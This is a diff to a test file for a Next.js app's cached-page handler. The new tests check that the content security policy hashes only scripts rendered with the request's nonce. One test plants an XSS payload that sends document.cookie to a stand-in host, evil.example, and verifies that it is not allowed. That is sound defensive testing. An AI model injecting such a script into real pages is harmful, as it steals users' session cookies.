@@ -12,6 +12,7 @@ import { config as proxyConfig } from '@/proxy'
 import { LOADER } from '@/server/http/deferredApp.mjs'
 import SecureIsrCache, { signCachedPage } from '@/server/http/isrCacheHandler.mjs'
 import { PAGE_VERSION_HEADER } from '@/server/http/pageResponses.mjs'
+import { withRenderNonce } from '@/server/http/renderNonce.mjs'
 import {
   CACHED_PAGE,
   MONACO_CDN,
@@ -121,22 +122,57 @@ describe('cached pages carry a hash-based policy', () => {
   const html = '<!DOCTYPE html><html><head><script src="/_next/static/chunks/main.js" async=""></script></head><body><p>Hi</p><script>self.__next_f=self.__next_f||[]</script><script>self.__next_f.push([1,"abc"])</script><script type="application/ld+json">{}</script></body></html>'
   const key = '/route-cache/APP_PAGE/0123abcd/$/en/blog/my-post'
   const page = () => ({ kind: 'APP_PAGE', html, rscData: Buffer.from('0:{}'), headers: { 'x-next-cache-tags': 'posts' } as Record<string, string>, status: 200 })
+  const newCache = () => new SecureIsrCache({ flushToDisk: false, serverDistDir: '/nonexistent', maxMemoryCacheSize: 50 * 1024 * 1024, revalidatedTags: [], _requestHeaders: {} })
+  const setContext = { kind: 'APP_PAGE', isRoutePPREnabled: false, isFallback: false, cacheControl: { revalidate: 60, expire: 31536000 } }
+
+  /** Renders as server.mjs has Next render: a request with its nonce, which Next writes on its scripts. */
+  async function renderAndStore(cache: InstanceType<typeof SecureIsrCache>, write: (nonce: string) => string) {
+    const req = { headers: { 'content-security-policy': "script-src 'nonce-chosen-by-client'" } as Record<string, string> }
+    const value = page()
+    await withRenderNonce(req as never, async () => {
+      const nonce = /'nonce-([^']+)'/.exec(req.headers['content-security-policy']!)![1]!
+      value.html = write(nonce)
+      await cache.set(key, value, setContext)
+    })
+    return value
+  }
 
   it('when the page enters the cache: the MISS answer (same value) and each HIT carry the same policy', async () => {
-    const cache = new SecureIsrCache({ flushToDisk: false, serverDistDir: '/nonexistent', maxMemoryCacheSize: 50 * 1024 * 1024, revalidatedTags: [], _requestHeaders: {} })
-    const value = page()
-    await cache.set(key, value, { kind: 'APP_PAGE', isRoutePPREnabled: false, isFallback: false, cacheControl: { revalidate: 60, expire: 31536000 } })
+    const cache = newCache()
+    const value = await renderAndStore(cache, (nonce) => html.replaceAll('<script>', `<script nonce="${nonce}">`))
     const policy = value.headers['content-security-policy']
     const scriptSrc = directives(policy).get('script-src')
     // A post starts its app on intent (deferredApp.mjs): its moved scripts keep their hashes, and the loader has one.
     expect(scriptSrc).toEqual(["'self'", sha256('self.__next_f=self.__next_f||[]'), sha256('self.__next_f.push([1,"abc"])'), sha256(LOADER)])
     expect(value.html).toContain('<template id="app-scripts">')
+    expect(value.html).not.toContain('nonce=')
     expect(directives(policy).get('frame-ancestors')).toEqual(["'self'"])
     expect(value.headers['x-next-cache-tags']).toBe('posts')
+    expect(value.headers['content-language']).toBe('en')
     expect(JSON.stringify(value)).not.toContain('Symbol')
 
     const hit = await cache.get(key, { kind: 'APP_PAGE', isRoutePPREnabled: false, isFallback: false })
     expect(hit?.value.headers['content-security-policy']).toBe(policy)
+  })
+
+  it('hashes only the scripts Next wrote with the request\'s nonce: one that came in with content is not allowed', async () => {
+    const injected = 'fetch("https://evil.example/?"+document.cookie)'
+    const value = await renderAndStore(newCache(), (nonce) =>
+      html
+        .replaceAll('<script>', `<script nonce="${nonce}">`)
+        // A post's body that slipped a script past sanitising, with no nonce, a guessed one, or the client's own.
+        .replace('<p>Hi</p>', `<p>Hi</p><script>${injected}</script><script nonce="guess">${injected}1</script><script nonce="chosen-by-client">${injected}2</script>`),
+    )
+    const scriptSrc = directives(value.headers['content-security-policy']).get('script-src')!
+    for (const text of [injected, `${injected}1`, `${injected}2`]) expect(scriptSrc).not.toContain(sha256(text))
+    expect(scriptSrc).toEqual(expect.arrayContaining([sha256('self.__next_f=self.__next_f||[]'), sha256(LOADER)]))
+    expect(scriptSrc).not.toContain("'unsafe-inline'")
+  })
+
+  it('a page stored outside a request (no nonce known) gets no script hashed but our loader', async () => {
+    const value = page()
+    await newCache().set(key, value, setContext)
+    expect(directives(value.headers['content-security-policy']).get('script-src')).toEqual(["'self'", sha256(LOADER)])
   })
 
   it('an entry read from elsewhere (a build-time prerender) gets this process\'s policy, replacing a stored one', () => {
